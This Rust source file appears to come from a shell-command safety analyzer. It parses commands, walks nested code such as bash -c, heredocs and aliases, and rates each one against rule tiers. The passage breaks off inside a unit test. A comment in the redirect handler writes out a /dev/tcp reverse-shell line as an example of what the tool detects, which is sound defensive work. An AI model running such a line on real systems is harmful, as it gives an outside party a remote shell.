//! Walks a parsed shell program and matches every command it would run against the rules.
//!
//! The walk is deliberately over-inclusive: function bodies are analysed even if never called,
//! both branches of `if`/`||` count, and nested code (`bash -c`, `eval`, `$( )`, heredocs fed
//! to a shell) is parsed and walked too. The verdict is the highest tier of anything reachable.

use std::io::Cursor;
use std::panic::AssertUnwindSafe;
use std::path::Path;

use brush_parser::ParserOptions;
use brush_parser::ast::{
    AndOr, Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, ExtendedTestExpr,
    IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline, Program, SimpleCommand,
    SubshellCommand,
};

use crate::rules::{CodeRunner, OptionCode, Rule, RuleSet, Scope, Wrapper};
use crate::words::{self, Arg, Cwd, UNKNOWN};
use crate::{RuleHit, Tier};

/// Nested code (`bash -c "bash -c '...'"`) deeper than this is refused as unparseable: real
/// commands never need it and an attacker could use it to exhaust the stack.
const MAX_DEPTH: usize = 8;

/// Where a command's standard input comes from, which matters for shells and interpreters.
#[derive(Debug, Clone)]
enum Stdin {
    Inherited,
    Pipe,
    File,
    /// `< /dev/null`: nothing.
    Null,
    /// Static text from a heredoc or here-string.
    Code(String),
    /// A heredoc or here-string with expansions we cannot resolve.
    DynamicCode,
}

pub(crate) struct Analyzer<'a> {
    rules: &'a RuleSet,
    options: ParserOptions,
    workspace_dir: Option<&'a Path>,
    pub(crate) hits: Vec<RuleHit>,
    cwd: Cwd,
    depth: usize,
    elevated: bool,
    /// Names of commands invoked so far, to spot functions that call themselves.
    invoked: Vec<String>,
}

fn parse(src: &str, options: &ParserOptions) -> Result<Program, String> {
    // The parser is third-party code fed attacker-controlled text; a panic there must become
    // a conservative verdict, not take the engine down.
    let result = std::panic::catch_unwind(AssertUnwindSafe(|| {
        let mut parser = brush_parser::Parser::new(Cursor::new(src.as_bytes()), options);
        parser.parse_program()
    }));
    match result {
        Ok(Ok(program)) => Ok(program),
        Ok(Err(e)) => Err(e.to_string()),
        Err(_) => Err("the shell parser failed on this input".into()),
    }
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

fn shown(argv: &[Arg]) -> String {
    argv.iter().map(Arg::display).collect::<Vec<_>>().join(" ")
}

/// Whether an option word sets `flag`: long flags match exactly (or with `=value`), one-letter
/// flags also match inside a cluster (`-rf` sets `-r` and `-f`), other single-dash flags
/// (`find -delete`) match exactly.
pub(crate) fn flag_matches(word: &str, flag: &str) -> bool {
    if flag.starts_with("--") || flag.chars().count() > 2 {
        return word == flag
            || word
                .strip_prefix(flag)
                .is_some_and(|rest| rest.starts_with('='));
    }
    match (flag.chars().nth(1), word.strip_prefix('-')) {
        (Some(letter), Some(cluster)) if !cluster.starts_with('-') => cluster.contains(letter),
        _ => false,
    }
}

fn is_option(arg: &Arg) -> bool {
    !arg.dynamic && arg.text.len() > 1 && arg.text.starts_with('-')
}

/// Options and positional arguments of one command, given which options take a value.
struct ParsedArgs<'a> {
    options: Vec<&'a str>,
    positionals: Vec<&'a Arg>,
}

fn parse_args<'a>(
    argv: &'a [Arg],
    value_options: Option<&std::collections::HashSet<String>>,
) -> ParsedArgs<'a> {
    let mut options = Vec::new();
    let mut positionals = Vec::new();
    let mut i = 1;
    let mut end_of_options = false;
    while let Some(arg) = argv.get(i) {
        i += 1;
        if !end_of_options && !arg.dynamic && arg.text == "--" {
            end_of_options = true;
            continue;
        }
        if !end_of_options && is_option(arg) {
            options.push(arg.text.as_str());
            if value_options.is_some_and(|v| v.contains(&arg.text)) {
                i += 1;
            }
            continue;
        }
        positionals.push(arg);
    }
    ParsedArgs {
        options,
        positionals,
    }
}

/// Shell builtins and tools whose `NAME=value` arguments set environment variables.
const ASSIGNING_COMMANDS: &[&str] = &["env", "export", "declare", "typeset", "local", "readonly"];

/// The help and version options GNU-style tools answer without doing anything else.
const HELP_OPTIONS: &[&str] = &["--help", "--version"];

/// The value an option word carries for `opt`, and whether it is the next word:
/// `--opt=value`, `--opt value`, `-o value`, `-ovalue`, `-xvo value` (a cluster ending in the
/// letter) and, for one-character options such as vim's `+`, `+value`.
fn option_value(word: &str, opt: &str) -> Option<Option<String>> {
    if word == opt {
        return Some(None);
    }
    if opt.starts_with("--") {
        return word
            .strip_prefix(opt)
            .and_then(|rest| rest.strip_prefix('='))
            .map(|v| Some(v.to_string()));
    }
    if opt.chars().count() == 1 {
        return word
            .strip_prefix(opt)
            .filter(|v| !v.is_empty())
            .map(|v| Some(v.to_string()));
    }
    if let Some(rest) = word.strip_prefix(opt)
        && !rest.is_empty()
        && opt.chars().count() == 2
    {
        return Some(Some(rest.to_string()));
    }
    let letter = opt.strip_prefix('-').filter(|l| l.chars().count() == 1)?;
    let cluster = word.strip_prefix('-').filter(|c| !c.starts_with('-'))?;
    (cluster.ends_with(letter) && cluster.chars().all(|c| c.is_ascii_alphanumeric()))
        .then_some(None)
}

/// Remove the first of `prefixes` that starts `text`, ignoring case.
fn strip_prefix_nocase<'t>(text: &'t str, prefixes: &[String]) -> Option<&'t str> {
    prefixes.iter().find_map(|p| {
        let head = text.get(..p.len())?;
        head.eq_ignore_ascii_case(p).then(|| &text[p.len()..])
    })
}

fn is_assignment(text: &str) -> bool {
    match text.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

impl<'a> Analyzer<'a> {
    pub(crate) fn new(rules: &'a RuleSet, workspace_dir: Option<&'a Path>) -> Self {
        Analyzer {
            rules,
            options: ParserOptions::default(),
            workspace_dir,
            hits: Vec::new(),
            cwd: Cwd::Workspace(Vec::new()),
            depth: 0,
            elevated: false,
            invoked: Vec::new(),
        }
    }

    pub(crate) fn builtin(&mut self, id: &str, command: &str, detail: Option<&str>) {
        let (rule, tier, reason) = self.rules.builtin(id);
        let reason = match detail {
            Some(d) => format!("{reason} ({d})"),
            None => reason.to_string(),
        };
        self.hits.push(RuleHit {
            rule: rule.to_string(),
            tier,
            reason,
            command: command.to_string(),
        });
    }

    fn hit(&mut self, rule: &Rule, command: &str) {
        self.hits.push(RuleHit {
            rule: rule.id.clone(),
            tier: rule.tier,
            reason: rule.reason.clone(),
            command: command.to_string(),
        });
    }

    /// Parse and walk a piece of shell source (the top-level command or nested code).
    pub(crate) fn source(&mut self, src: &str) {
        if self.depth > MAX_DEPTH {
            self.builtin("unparseable", src, Some("nested code too deep"));
            return;
        }
        match parse(src, &self.options) {
            Ok(program) => {
                for list in &program.complete_commands {
                    self.compound_list(list);
                }
            }
            Err(e) => self.builtin("unparseable", src, Some(&e)),
        }
    }

    /// Walk code that runs in a child context: its `cd` does not leak out.
    fn nested(&mut self, src: &str) {
        let saved = self.cwd.clone();
        self.depth += 1;
        self.source(src);
        self.depth -= 1;
        self.cwd = saved;
    }

    fn substitutions(&mut self, arg: &Arg) {
        for code in &arg.substitutions {
            self.nested(code);
        }
    }

    fn expand(&mut self, raw: &str) -> Arg {
        let arg = words::expand(raw, &self.options, self.rules);
        self.substitutions(&arg);
        arg
    }

    fn compound_list(&mut self, list: &CompoundList) {
        for item in &list.0 {
            let and_or = &item.0;
            self.pipeline(&and_or.first);
            for next in &and_or.additional {
                match next {
                    AndOr::And(p) | AndOr::Or(p) => self.pipeline(p),
                }
            }
        }
    }

    fn pipeline(&mut self, p: &Pipeline) {
        if p.seq.len() == 1 {
            if let Some(cmd) = p.seq.first() {
                self.command(cmd, Stdin::Inherited);
            }
            return;
        }
        // Every stage of a multi-command pipeline runs in its own subshell.
        for (i, cmd) in p.seq.iter().enumerate() {
            let saved = self.cwd.clone();
            self.command(
                cmd,
                if i == 0 {
                    Stdin::Inherited
                } else {
                    Stdin::Pipe
                },
            );
            self.cwd = saved;
        }
    }

    fn subshell(&mut self, sub: &SubshellCommand) {
        let saved = self.cwd.clone();
        self.compound_list(&sub.list);
        self.cwd = saved;
    }

    fn command(&mut self, cmd: &Command, stdin: Stdin) {
        match cmd {
            Command::Simple(sc) => self.simple(sc, stdin),
            Command::Compound(cc, redirects) => {
                self.compound(cc, stdin);
                if let Some(list) = redirects {
                    for r in &list.0 {
                        self.redirect(r, false);
                    }
                }
            }
            Command::Function(def) => {
                let name = self.expand(&def.fname.value).text;
                let mark = self.invoked.len();
                let saved = self.cwd.clone();
                self.compound(&def.body.0, Stdin::Inherited);
                self.cwd = saved;
                if let Some(list) = &def.body.1 {
                    for r in &list.0 {
                        self.redirect(r, false);
                    }
                }
                if self.invoked[mark..].contains(&name) {
                    self.builtin("recursive-function", &format!("{name}() {{ … }}"), None);
                }
            }
            Command::ExtendedTest(test, redirects) => {
                self.extended_test(&test.expr);
                if let Some(list) = redirects {
                    for r in &list.0 {
                        self.redirect(r, false);
                    }
                }
            }
        }
    }

    fn extended_test(&mut self, expr: &ExtendedTestExpr) {
        match expr {
            ExtendedTestExpr::And(a, b) | ExtendedTestExpr::Or(a, b) => {
                self.extended_test(a);
                self.extended_test(b);
            }
            ExtendedTestExpr::Not(e) | ExtendedTestExpr::Parenthesized(e) => self.extended_test(e),
            ExtendedTestExpr::UnaryTest(_, w) => {
                self.expand(&w.value);
            }
            ExtendedTestExpr::BinaryTest(_, a, b) => {
                self.expand(&a.value);
                self.expand(&b.value);
            }
        }
    }

    fn compound(&mut self, cc: &CompoundCommand, stdin: Stdin) {
        match cc {
            CompoundCommand::Arithmetic(a) => {
                // `$(( $(cmd) ))` still runs `cmd`.
                self.expand(&format!("\"{}\"", a.expr.value));
            }
            CompoundCommand::ArithmeticForClause(f) => self.compound_list(&f.body.list),
            CompoundCommand::BraceGroup(g) => {
                // A group fed by a pipe passes the pipe to its first command; treat the whole
                // group as reading it.
                let _ = stdin;
                self.compound_list(&g.list);
            }
            CompoundCommand::Subshell(s) => self.subshell(s),
            CompoundCommand::ForClause(f) => {
                if let Some(values) = &f.values {
                    for v in values {
                        self.expand(&v.value);
                    }
                }
                self.compound_list(&f.body.list);
            }
            CompoundCommand::CaseClause(c) => {
                self.expand(&c.value.value);
                for item in &c.cases {
                    for p in &item.patterns {
                        self.expand(&p.value);
                    }
                    if let Some(list) = &item.cmd {
                        self.compound_list(list);
                    }
                }
            }
            CompoundCommand::IfClause(i) => {
                self.compound_list(&i.condition);
                self.compound_list(&i.then);
                for e in i.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        self.compound_list(cond);
                    }
                    self.compound_list(&e.body);
                }
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.compound_list(&w.0);
                self.compound_list(&w.1.list);
            }
            CompoundCommand::Coprocess(c) => self.command(&c.body, Stdin::Inherited),
        }
    }

    fn simple(&mut self, sc: &SimpleCommand, stdin: Stdin) {
        let mut argv: Vec<Arg> = Vec::new();
        let mut redirects: Vec<&IoRedirect> = Vec::new();
        let prefix = sc.prefix.iter().flat_map(|p| p.0.iter());
        let suffix = sc.suffix.iter().flat_map(|s| s.0.iter());
        for (in_prefix, item) in prefix.map(|i| (true, i)).chain(suffix.map(|i| (false, i))) {
            match item {
                CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r),
                CommandPrefixOrSuffixItem::Word(w) => {
                    let arg = self.expand(&w.value);
                    argv.push(arg);
                }
                CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                    let arg = self.expand(&w.value);
                    if in_prefix {
                        self.env_code(&arg);
                    } else {
                        argv.push(arg);
                    }
                }
                CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                    self.subshell(sub);
                    argv.push(Arg {
                        procsub: true,
                        ..Arg::unknown()
                    });
                }
            }
        }
        if let Some(w) = &sc.word_or_name {
            let arg = self.expand(&w.value);
            // Prefix items never produce argv entries, so the command word always goes first.
            argv.insert(0, arg);
        }

        let mut stdin = stdin;
        for r in &redirects {
            match r {
                IoRedirect::HereDocument(fd, doc) if fd.unwrap_or(0) == 0 => {
                    if doc.requires_expansion {
                        match brush_parser::word::parse_heredoc(&doc.doc.value, &self.options) {
                            Ok(pieces) => {
                                let mut any_dynamic = false;
                                for p in pieces {
                                    if let brush_parser::word::WordPiece::CommandSubstitution(s)
                                    | brush_parser::word::WordPiece::BackquotedCommandSubstitution(
                                        s,
                                    ) = &p.piece
                                    {
                                        self.nested(s);
                                        any_dynamic = true;
                                    }
                                    if matches!(
                                        p.piece,
                                        brush_parser::word::WordPiece::ParameterExpansion(_)
                                    ) {
                                        any_dynamic = true;
                                    }
                                }
                                stdin = if any_dynamic {
                                    Stdin::DynamicCode
                                } else {
                                    Stdin::Code(doc.doc.value.clone())
                                };
                            }
                            Err(_) => stdin = Stdin::DynamicCode,
                        }
                    } else {
                        stdin = Stdin::Code(doc.doc.value.clone());
                    }
                }
                IoRedirect::HereString(fd, w) if fd.unwrap_or(0) == 0 => {
                    let arg = self.expand(&w.value);
                    stdin = match arg.static_text() {
                        Some(t) => Stdin::Code(t.to_string()),
                        None => Stdin::DynamicCode,
                    };
                }
                IoRedirect::File(fd, IoFileRedirectKind::Read, target) if fd.unwrap_or(0) == 0 => {
                    let null = matches!(target, IoFileRedirectTarget::Filename(w)
                        if words::expand(&w.value, &self.options, self.rules).static_text()
                            == Some("/dev/null"));
                    stdin = if null { Stdin::Null } else { Stdin::File };
                }
                _ => {}
            }
        }

        // A redirection whose command writes nothing (`: > f`, `cat /dev/null > f`,
        // `echo -n > f`) only empties the file.
        let bare = match argv.first() {
            None => true,
            Some(a) => {
                (!a.dynamic && self.rules.noop_commands.contains(a.text.as_str()))
                    || self.rules.empty_output_commands.iter().any(|c| {
                        c.len() == argv.len()
                            && c.iter()
                                .zip(&argv)
                                .all(|(want, got)| got.static_text() == Some(want.as_str()))
                    })
            }
        };
        if !argv.is_empty() {
            let elevated = self.elevated;
            self.invocation(&argv, &stdin, elevated);
        }
        for r in redirects {
            self.redirect(r, bare);
        }
    }

    fn redirect(&mut self, r: &IoRedirect, bare: bool) {
        let (kind, word) = match r {
            IoRedirect::File(_, kind, target) => {
                let kind = match kind {
                    IoFileRedirectKind::Write => "write",
                    IoFileRedirectKind::Clobber => "clobber",
                    IoFileRedirectKind::Append => "append",
                    IoFileRedirectKind::ReadAndWrite => "readwrite",
                    // Reads matter too: bash opens a socket for `/dev/tcp/...` whatever the
                    // direction (`cat < /dev/tcp/h/80`, `bash -i >& /dev/tcp/h/4444`).
                    IoFileRedirectKind::Read => "read",
                    IoFileRedirectKind::DuplicateInput | IoFileRedirectKind::DuplicateOutput => {
                        "duplicate"
                    }
                };
                match target {
                    IoFileRedirectTarget::Filename(w) => (kind, w),
                    // `>& word` / `<& word` where the word is a file name, not a descriptor.
                    IoFileRedirectTarget::Duplicate(w)
                        if !w.value.is_empty()
                            && !w
                                .value
                                .trim_end_matches('-')
                                .bytes()
                                .all(|b| b.is_ascii_digit()) =>
                    {
                        ("duplicate", w)
                    }
                    IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        self.subshell(sub);
                        return;
                    }
                    IoFileRedirectTarget::Fd(_) | IoFileRedirectTarget::Duplicate(_) => return,
                }
            }
            IoRedirect::OutputAndError(w, append) => (if *append { "append" } else { "write" }, w),
            IoRedirect::HereDocument(..) | IoRedirect::HereString(..) => return,
        };
        let target = self.expand(&word.value);
        let classes = words::classes(&target, &self.cwd, self.rules, self.workspace_dir);
        let symbol = match kind {
            "append" => ">>",
            "clobber" => ">|",
            "readwrite" => "<>",
            "read" => "<",
            "duplicate" => ">&",
            _ => ">",
        };
        let shown = format!("{symbol} {}", target.display());
        let rules = self.rules;
        for idx in &rules.redirect_rules {
            let Some(rule) = rules.rules.get(*idx) else {
                continue;
            };
            if !rule.redirect.iter().any(|k| k == kind) {
                continue;
            }
            if rule.bare.is_some_and(|b| b != bare) {
                continue;
            }
            if !rule.arg_class.is_empty()
                && !rule.arg_class.iter().any(|c| classes.contains(c.as_str()))
            {
                continue;
            }
            if let Some(globs) = &rule.args
                && !globs.is_match(&target.text)
            {
                continue;
            }
            self.hit(rule, &shown);
        }
    }

    /// Where a wrapper's inner command starts, or `None` if the wrapper runs nothing (no
    /// command given, or a flag like `command -v` that only looks the name up).
    fn unwrap(wrapper: &Wrapper, argv: &[Arg]) -> Option<usize> {
        let mut i = 1;
        let mut skipped = 0;
        while let Some(arg) = argv.get(i) {
            if !arg.dynamic && arg.text == "--" {
                return (i + 1 < argv.len()).then_some(i + 1);
            }
            if is_option(arg) {
                if wrapper
                    .stop_flags
                    .iter()
                    .any(|f| flag_matches(&arg.text, f))
                {
                    return None;
                }
                i += if wrapper.value_options.contains(&arg.text) {
                    2
                } else {
                    1
                };
                continue;
            }
            if wrapper.skip_assignments && !arg.dynamic && is_assignment(&arg.text) {
                i += 1;
                continue;
            }
            if skipped < wrapper.skip_positionals {
                skipped += 1;
                i += 1;
                continue;
            }
            return Some(i);
        }
        None
    }

    fn invocation(&mut self, argv: &[Arg], stdin: &Stdin, elevated: bool) {
        let Some(first) = argv.first() else {
            return;
        };
        let shown = shown(argv);
        if first.dynamic || first.procsub || first.text.contains(UNKNOWN) {
            self.builtin("dynamic-command", &shown, None);
            return;
        }
        let rules = self.rules;
        let name = basename(&first.text).to_string();
        self.invoked.push(name.clone());
        let before = self.hits.len();

        // Options and variables whose value is a command the tool runs count whatever else the
        // command does, even next to `--help`.
        if let Some(entries) = rules.option_code.get(name.as_str()) {
            for entry in entries {
                self.option_code(entry, argv);
            }
        }
        if ASSIGNING_COMMANDS.contains(&name.as_str()) {
            for arg in &argv[1..] {
                self.env_code(arg);
            }
        }
        if self.help_query(&name, argv) {
            self.builtin("help-query", &shown, None);
            return;
        }

        let wrapped = rules
            .wrappers
            .get(name.as_str())
            .and_then(|w| Self::unwrap(w, argv).map(|start| (w, start)));
        if let Some((wrapper, start)) = wrapped {
            let mut inner: Vec<Arg> = argv[start..].to_vec();
            let inner_stdin = if wrapper.appends_dynamic_args {
                inner.push(Arg::unknown());
                Stdin::Inherited
            } else {
                stdin.clone()
            };
            self.invocation(&inner, &inner_stdin, elevated || wrapper.elevates);
            return;
        }

        let mut handled = false;
        if let Some(runner) = rules.code_runners.get(name.as_str()) {
            handled = self.code_runner(runner, argv, stdin, elevated || runner.elevates, &shown);
        }
        if let Some(exec) = rules.exec_options.get(name.as_str()) {
            let mut i = 1;
            while i < argv.len() {
                if argv[i]
                    .static_text()
                    .is_some_and(|t| exec.options.iter().any(|o| o == t))
                {
                    let start = i + 1;
                    let mut end = start;
                    while end < argv.len()
                        && !argv[end]
                            .static_text()
                            .is_some_and(|t| exec.terminators.iter().any(|x| x == t))
                    {
                        end += 1;
                    }
                    let inner: Vec<Arg> = argv[start..end]
                        .iter()
                        .map(|a| {
                            if a.text.contains(&exec.placeholder) {
                                Arg::unknown()
                            } else {
                                a.clone()
                            }
                        })
                        .collect();
                    if !inner.is_empty() {
                        self.invocation(&inner, &Stdin::Inherited, elevated);
                    }
                    i = end;
                }
                i += 1;
            }
        }
        if name == "cd" || name == "pushd" {
            self.change_dir(argv);
        }
        if name == "alias" {
            // An alias body runs whenever the name is used later; rate it now.
            for arg in &argv[1..] {
                if let Some((_, body)) = arg.text.split_once('=') {
                    let body = body.to_string();
                    self.nested(&body);
                }
            }
        }
        let matched = self.match_rules(&name, argv, stdin, &shown);
        if !matched && !handled {
            self.builtin("default", &shown, None);
        }
        if elevated || self.elevated {
            let worst = self.hits[before..].iter().map(|h| h.tier).max();
            if worst.is_some_and(|t| t >= Tier::LowWrite) {
                self.builtin("elevated-write", &shown, None);
            }
        }
    }

    /// `CMD --help` or `CMD --version` before any operand (or after the subcommand of a tool
    /// in `subcommand_tools`) only prints, for the tools the rules know. An operand before the option could be a script or
    /// a package the tool runs with `--help` as its argument (`python3 app.py --help`,
    /// `npx pkg --help`), and with `POSIXLY_CORRECT` set a later `--help` is an operand too.
    /// Only tools the rules know: a project script (`./cleanup.sh --help`) may ignore the
    /// option and run anyway.
    fn help_query(&self, name: &str, argv: &[Arg]) -> bool {
        let rules = self.rules;
        let known = rules.by_command.contains_key(name)
            || rules.wrappers.contains_key(name)
            || rules.code_runners.contains_key(name)
            || rules.option_code.contains_key(name);
        if !known {
            return false;
        }
        let allowed = usize::from(self.rules.subcommand_tools.contains(name));
        let value_options = self.rules.value_options.get(name);
        let mut operands = 0;
        let mut i = 1;
        while let Some(arg) = argv.get(i) {
            i += 1;
            let Some(text) = arg.static_text() else {
                operands += 1;
                continue;
            };
            if text == "--" {
                return false;
            }
            if HELP_OPTIONS.contains(&text) {
                return operands <= allowed;
            }
            if is_option(arg) {
                if value_options.is_some_and(|v| v.contains(text)) {
                    i += 1;
                }
                continue;
            }
            operands += 1;
        }
        false
    }

    /// Analyse the value of every option of `entry` that carries a command.
    fn option_code(&mut self, entry: &OptionCode, argv: &[Arg]) {
        let mut i = 1;
        while let Some(arg) = argv.get(i) {
            i += 1;
            for opt in &entry.options {
                let value = match option_value(&arg.text, opt) {
                    None => continue,
                    Some(Some(attached)) => Arg {
                        text: attached,
                        ..arg.clone()
                    },
                    Some(None) => match argv.get(i) {
                        Some(next) => {
                            i += 1;
                            next.clone()
                        }
                        None => continue,
                    },
                };
                self.code_value(entry, &value, &arg.display());
                break;
            }
        }
    }

    fn code_value(&mut self, entry: &OptionCode, value: &Arg, option: &str) {
        let mut text = value.text.as_str();
        if let Some(keys) = &entry.keys {
            let Some((key, rest)) = text.split_once('=') else {
                return;
            };
            if key.contains(UNKNOWN) || !keys.is_match(key) {
                return;
            }
            text = rest;
        }
        if !entry.prefixes.is_empty() {
            match strip_prefix_nocase(text, &entry.prefixes) {
                Some(rest) => text = rest,
                None => return,
            }
        }
        if let Some(rest) = strip_prefix_nocase(text, &entry.strip) {
            text = rest;
        }
        let shown = format!("{option} {}", text.replace(UNKNOWN, "…"));
        if text.contains(UNKNOWN) {
            self.builtin("dynamic-shell-code", &shown, None);
        } else {
            let code = text.to_string();
            self.nested(&code);
        }
    }

    /// `NAME=value` where the variable names a command a tool will run (`GIT_SSH_COMMAND`,
    /// `PAGER`, `LESSOPEN`): the value is analysed as shell code.
    fn env_code(&mut self, arg: &Arg) {
        let Some((name, value)) = arg.text.split_once('=') else {
            return;
        };
        if !self.rules.code_env_vars.contains(name) {
            return;
        }
        let code = value.trim_start_matches('|').to_string();
        if code.contains(UNKNOWN) {
            self.builtin("dynamic-shell-code", &arg.display(), None);
        } else {
            self.nested(&code);
        }
    }

    fn change_dir(&mut self, argv: &[Arg]) {
        let target = parse_args(argv, None)
            .positionals
            .first()
            .map(|a| (*a).clone());
        self.cwd = match target {
            None => Cwd::Outside,
            Some(arg) if arg.static_text() == Some("-") => Cwd::Unknown,
            Some(arg) => {
                let classes = words::classes(&arg, &self.cwd, self.rules, None);
                if classes.contains("outside")
                    || classes.contains("device")
                    || classes.contains("scratch")
                {
                    Cwd::Outside
                } else if classes.contains("workspace") && !arg.dynamic {
                    let rel = match arg.text.strip_prefix(&self.rules.workspace) {
                        Some(r) => r.to_string(),
                        None => arg.text.clone(),
                    };
                    let mut comps = match &self.cwd {
                        Cwd::Workspace(c) if !arg.text.starts_with('/') => c.clone(),
                        _ => Vec::new(),
                    };
                    for comp in rel.split('/') {
                        match comp {
                            "" | "." => {}
                            ".." => {
                                comps.pop();
                            }
                            c => comps.push(c.to_string()),
                        }
                    }
                    Cwd::Workspace(comps)
                } else {
                    Cwd::Unknown
                }
            }
        };
    }

    fn code_runner(
        &mut self,
        runner: &CodeRunner,
        argv: &[Arg],
        stdin: &Stdin,
        elevated: bool,
        shown: &str,
    ) -> bool {
        let mut code_mode = false;
        let mut stdin_mode = false;
        let mut script_given = false;
        let mut positionals: Vec<&Arg> = Vec::new();
        let mut i = 1;
        while let Some(arg) = argv.get(i) {
            i += 1;
            if positionals.len() <= runner.skip_positionals && !arg.dynamic && arg.text == "--" {
                continue;
            }
            if positionals.len() <= runner.skip_positionals && is_option(arg) {
                if runner.code_flags.iter().any(|f| flag_matches(&arg.text, f)) {
                    code_mode = true;
                }
                if runner
                    .stdin_flags
                    .iter()
                    .any(|f| flag_matches(&arg.text, f))
                {
                    stdin_mode = true;
                }
                if runner.value_options.contains(&arg.text) {
                    // `python -m module` names the program by option.
                    script_given = true;
                    i += 1;
                }
                continue;
            }
            positionals.push(arg);
        }
        let positionals = positionals.get(runner.skip_positionals..).unwrap_or(&[]);

        let saved = self.elevated;
        self.elevated = elevated;
        let code: Option<Arg> = if runner.all_args {
            if positionals.is_empty() {
                None
            } else {
                let mut joined = Arg::default();
                for (n, p) in positionals.iter().enumerate() {
                    if n > 0 {
                        joined.text.push(' ');
                    }
                    joined.text.push_str(&p.text);
                    joined.dynamic |= p.dynamic;
                    joined.substitutions.extend(p.substitutions.iter().cloned());
                }
                Some(joined)
            }
        } else if code_mode {
            positionals.first().map(|a| (*a).clone())
        } else {
            None
        };

        let mut handled = true;
        match code {
            Some(code) if !code.dynamic => {
                if runner.shell {
                    self.nested(&code.text);
                } else {
                    // Inline code in another language is only matched by argument patterns;
                    // never let it rate below an unknown program.
                    self.builtin("run-script", shown, None);
                }
            }
            Some(code) => {
                let trusted = !code.substitutions.is_empty()
                    && code.text.chars().filter(|c| *c == UNKNOWN).count()
                        == code.substitutions.len()
                    && code.substitutions.iter().all(|s| {
                        s.split_whitespace().next().is_some_and(|w| {
                            self.rules.trusted_code_generators.contains(basename(w))
                        })
                    });
                if trusted {
                    self.builtin("generated-code", shown, None);
                } else {
                    self.builtin("dynamic-shell-code", shown, None);
                }
            }
            None => {
                let script = if stdin_mode || script_given {
                    None
                } else {
                    positionals.first()
                };
                match script {
                    Some(s) if s.procsub || s.dynamic => {
                        self.builtin("dynamic-shell-code", shown, None);
                    }
                    Some(s) if s.text == "-" => handled = self.stdin_code(runner, stdin, shown),
                    Some(_) => self.builtin("run-script", shown, None),
                    None if script_given => self.builtin("run-script", shown, None),
                    None => handled = self.stdin_code(runner, stdin, shown),
                }
            }
        }
        self.elevated = saved;
        handled
    }

    /// Code read from standard input. Returns false for an interactive interpreter (`python3`,
    /// `node --version`), which is left to the ordinary rules.
    fn stdin_code(&mut self, runner: &CodeRunner, stdin: &Stdin, shown: &str) -> bool {
        match stdin {
            Stdin::Pipe => self.builtin("pipe-to-shell", shown, None),
            Stdin::DynamicCode => self.builtin("dynamic-shell-code", shown, None),
            Stdin::Code(text) if runner.shell => self.nested(text),
            Stdin::Code(_) | Stdin::File | Stdin::Null => self.builtin("run-script", shown, None),
            Stdin::Inherited => return false,
        }
        true
    }

    /// Apply the command rules for `name`; true if any matched.
    /// Apply the command rules for `name`; true if any matched. When an `exclusive` rule
    /// matches (a dry run, a listing), only the exclusive rules that match count.
    fn match_rules(&mut self, name: &str, argv: &[Arg], stdin: &Stdin, shown: &str) -> bool {
        let rules = self.rules;
        let Some(indices) = rules.by_command.get(name) else {
            return false;
        };
        let parsed = parse_args(argv, rules.value_options.get(name));
        let matching: Vec<&Rule> = indices
            .iter()
            .filter_map(|idx| rules.rules.get(*idx))
            .filter(|rule| self.rule_matches(rule, argv, &parsed, stdin))
            .collect();
        let exclusive = matching.iter().any(|r| r.exclusive);
        for rule in &matching {
            if rule.exclusive || !exclusive {
                self.hit(rule, shown);
            }
        }
        !matching.is_empty()
    }

    fn rule_matches(
        &self,
        rule: &Rule,
        argv: &[Arg],
        parsed: &ParsedArgs<'_>,
        stdin: &Stdin,
    ) -> bool {
        if !rule.stdin.is_empty() {
            let kind = match stdin {
                Stdin::Null => "null",
                Stdin::Pipe => "pipe",
                Stdin::File => "file",
                Stdin::Code(_) | Stdin::DynamicCode => "text",
                Stdin::Inherited => "",
            };
            if !rule.stdin.iter().any(|k| k == kind) {
                return false;
            }
        }
        if let Some(globs) = &rule.not_args
            && argv
                .iter()
                .skip(1)
                .filter_map(Arg::static_text)
                .any(|t| globs.is_match(t))
        {
            return false;
        }
        let mut positionals: &[&Arg] = &parsed.positionals;
        if !rule.subcommand.is_empty() {
            let Some((sub, rest)) = positionals.split_first() else {
                return false;
            };
            if !sub
                .static_text()
                .is_some_and(|t| rule.subcommand.iter().any(|s| s == t))
            {
                return false;
            }
            positionals = rest;
            if !rule.action.is_empty() {
                let Some((action, rest)) = positionals.split_first() else {
                    return false;
                };
                if !action
                    .static_text()
                    .is_some_and(|t| rule.action.iter().any(|a| a == t))
                {
                    return false;
                }
                positionals = rest;
            }
        }
        if rule
            .max_positionals
            .is_some_and(|max| positionals.len() > max)
        {
            return false;
        }
        if !rule.flags.is_empty()
            && !parsed
                .options
                .iter()
                .any(|o| rule.flags.iter().any(|f| flag_matches(o, f)))
        {
            return false;
        }
        if parsed
            .options
            .iter()
            .any(|o| rule.not_flags.iter().any(|f| flag_matches(o, f)))
        {
            return false;
        }
        if let Some(globs) = &rule.args
            && !argv
                .iter()
                .skip(1)
                .filter_map(Arg::static_text)
                .any(|t| globs.is_match(t))
        {
            return false;
        }
        if !rule.arg_class.is_empty() {
            let scoped: &[&Arg] = match rule.scope {
                Scope::All => positionals,
                Scope::Last => positionals.last().map_or(&[], std::slice::from_ref),
                Scope::NotFirst => positionals.get(1..).unwrap_or(&[]),
            };
            let hit = scoped.iter().any(|a| {
                let classes = words::classes(a, &self.cwd, self.rules, self.workspace_dir);
                rule.arg_class.iter().any(|c| classes.contains(c.as_str()))
            });
            if !hit {
                return false;
            }
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use super::flag_matches;

    #[test]
    fn flags() {
        assert!(flag_matches("-rf", "-r"));
        assert!(flag_matches("-fr", "-r"));
        assert!(flag_matches("-R", "-R"));
        assert!(!flag_matches("-R", "-r"));
        assert!(flag_matches("--recursive", "--recursive"));
        assert!(flag_matches("--force=yes", "--force"));
        assert!(!flag_matches("--force-with-lease", "--force"));
